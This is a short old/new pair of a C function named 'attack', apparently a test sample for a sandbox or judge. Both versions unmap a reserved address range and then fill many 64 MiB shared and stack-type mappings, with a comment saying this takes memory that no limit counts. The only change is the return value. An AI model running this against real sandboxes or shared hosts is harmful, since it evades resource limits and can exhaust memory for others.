//// old
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
/* Gives reserved addresses back, and takes their room for memory that no limit counts: shared, or for stacks. */
int attack(int x) {
    static const int kinds[] = {0x21, 0x122};
    syscall(SYS_munmap, 0x1b3ca7e50000 + (1L << 30), 1L << 39);
    for (int i = 0; i < 2; i++) {
        for (int count = 0; count < 48; count++) {
            void *piece = (void *)syscall(SYS_mmap, 0, 64L << 20, 3, kinds[i], -1, 0);
            if ((long)piece < 0 && (long)piece > -4096) break;
            memset(piece, 1, 64 << 20);
        }
    }
    return x;
}
//// new
#include <string.h>
#include <unistd.h>
#include <sys/syscall.h>
/* Gives reserved addresses back, and takes their room for memory that no limit counts: shared, or for stacks. */
int attack(int x) {
    static const int kinds[] = {0x21, 0x122};
    syscall(SYS_munmap, 0x1b3ca7e50000 + (1L << 30), 1L << 39);
    for (int i = 0; i < 2; i++) {
        for (int count = 0; count < 48; count++) {
            void *piece = (void *)syscall(SYS_mmap, 0, 64L << 20, 3, kinds[i], -1, 0);
            if ((long)piece < 0 && (long)piece > -4096) break;
            memset(piece, 1, 64 << 20);
        }
    }
    return x + 1;
}
